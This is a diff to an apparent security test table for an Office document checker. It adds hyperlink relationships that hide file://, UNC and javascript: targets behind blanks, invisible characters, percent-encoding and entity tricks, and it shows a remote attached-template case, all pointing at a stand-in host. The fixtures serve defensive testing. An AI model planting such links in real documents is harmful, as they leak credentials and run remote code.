@@ -119,6 +119,12 @@ ATTACKS: dict[str, Attack] = {
         "mailMergeSource", "video", "customXml")},
     "a link to a machine nearby": _relation("hyperlink", f"file://{SPY}/a"),
     "a link that is a script": _relation("hyperlink", f"javascript:{RUN}"),
+    "a link behind a blank": _relation("hyperlink", f" file://{SPY}/a"),
+    "a link behind what can't be seen": _relation("hyperlink", f"\u00a0\u200bfile://{SPY}/a"),
+    "a link by numbers": _relation("hyperlink", f"%66ile://{SPY}/a"),
+    "a link over two lines": _relation("hyperlink", f"java&#10;script:{RUN}"),
+    "a link to a machine nearby, behind a blank": _relation("hyperlink", f" \\\\{SPY}\\a"),
+    "a link to a file beside": _relation("hyperlink", f"{SPY}.lnk"),
     "a relation whose mode is misspelt": _relation("image", mode=' TargetMode="external"'),
     "a template": Attack("surat.docx", "word/_rels/header1.xml.rels", "", '<Relationships xmlns="urn:relationships">'
                          f'<Relationship Id="a" Type="{_TYPE}/attachedTemplate" Target="http://{SPY}/a.dotm" '
